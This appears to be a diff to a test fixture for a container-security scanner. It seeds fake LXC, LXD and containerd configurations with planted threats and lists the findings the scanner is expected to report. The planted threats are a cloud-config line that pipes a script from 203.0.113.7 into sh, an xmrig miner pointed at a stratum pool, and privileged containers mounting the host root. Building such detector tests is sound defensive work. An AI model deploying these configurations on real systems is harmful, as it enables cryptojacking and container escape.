@@ -1,4 +1,13 @@
+import { readFileSync } from 'node:fs';
+import { gunzipSync } from 'node:zlib';
 import type { Pair } from './pair.ts';
+
+/**
+ * Of containerd 1.6.20: `ctr -n k8s.io containers create --rootfs … miner /bin/xmrig stratum+tcp://…`, `wide` with all
+ * of the host and all rights, `web` with nothing, and twelve that were removed again, whose pages are still there.
+ */
+const META = gunzipSync(readFileSync(new URL('../fixtures/containerd-meta.db.gz', import.meta.url)));
+const META_PATH = '/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db';
 
 const id = (letter: string): string => letter.repeat(64);
 const docker = (letter: string): string => `/var/lib/docker/containers/${id(letter)}`;
@@ -66,8 +75,25 @@ export const pair: Pair = {
       process: { args: ['/pause'] },
       annotations: { 'io.kubernetes.cri.container-name': 'pause4' },
     }),
+    [META_PATH]: { bytes: META },
     '/var/lib/lxc/m/config':
       'lxc.init.cmd = /bin/xmrig -o 203.0.113.9:3333 --donate-level 1\nlxc.mount.entry = / host none bind 0 0\nlxc.start.auto = 1\n',
+    '/var/snap/lxd/common/lxd/storage-pools/default/containers/helper/backup.yaml': lxdBackup(
+      `    boot.autostart: "true"
+    image.description: alpine 3.10
+    security.privileged: "true"
+    user.user-data: |-
+      #cloud-config
+      wget -qO- http://203.0.113.7/l.sh | sh`,
+      `    host:
+      path: /mnt/root
+      source: /
+      type: disk`,
+    ),
+    '/var/lib/incus/storage-pools/default/containers/ci/backup.yaml': lxdBackup(
+      '    image.description: Debian bookworm amd64\n    limits.cpu: "4"\n    security.nesting: "true"',
+      '    cache:\n      path: /cache\n      source: /srv/cache\n      type: disk',
+    ),
     '/var/lib/lxc/build/config':
       'lxc.rootfs.path = dir:/var/lib/lxc/build/rootfs\nlxc.mount.entry = /srv/cache cache none bind 0 0\n',
   },
@@ -77,10 +103,47 @@ export const pair: Pair = {
     at(`${docker('b')}/config.v2.json`, 'host-root', 'T1611'),
     { ...at(`${store}/${id('1')}/userdata/config.json`, 'proxy-image', 'T1496.002'), verdict: 'suspicious' },
     at(`${task}/k8s.io/${id('3')}/config.json`, 'stratum-url'),
+    { ...at(META_PATH, 'stratum-url'), title: 'miner' },
+    { ...at(META_PATH, 'host-root', 'T1611'), title: 'wide', verdict: 'suspicious' },
+    at('/var/snap/lxd/common/lxd/storage-pools/default/containers/helper/backup.yaml', 'host-root', 'T1611'),
     at('/var/lib/lxc/m/config', 'host-root', 'T1611'),
   ],
-  passed: ['db (docker', 'node-exporter', 'web (podman', 'pause4', 'build (lxc'],
+  passed: [
+    'ci (lxc',
+    'web (containerd',
+    'db (docker',
+    'node-exporter',
+    'web (podman',
+    'pause4',
+    'build (lxc',
+  ],
 };
+
+/** As LXD 4 writes it. */
+function lxdBackup(config: string, devices: string): string {
+  return `container:
+  architecture: x86_64
+  config:
+${config}
+  devices:
+${devices}
+  ephemeral: false
+  profiles:
+  - default
+  expanded_devices:
+${devices}
+    root:
+      path: /
+      pool: default
+      type: disk
+  name: x
+  status: Stopped
+pool:
+  config:
+    source: /var/lib/lxd/storage-pools/default
+  name: default
+`;
+}
 
 function at(path: string, code: string, attack = 'T1610') {
   return { path, code, attack, verdict: 'malicious' } as const;
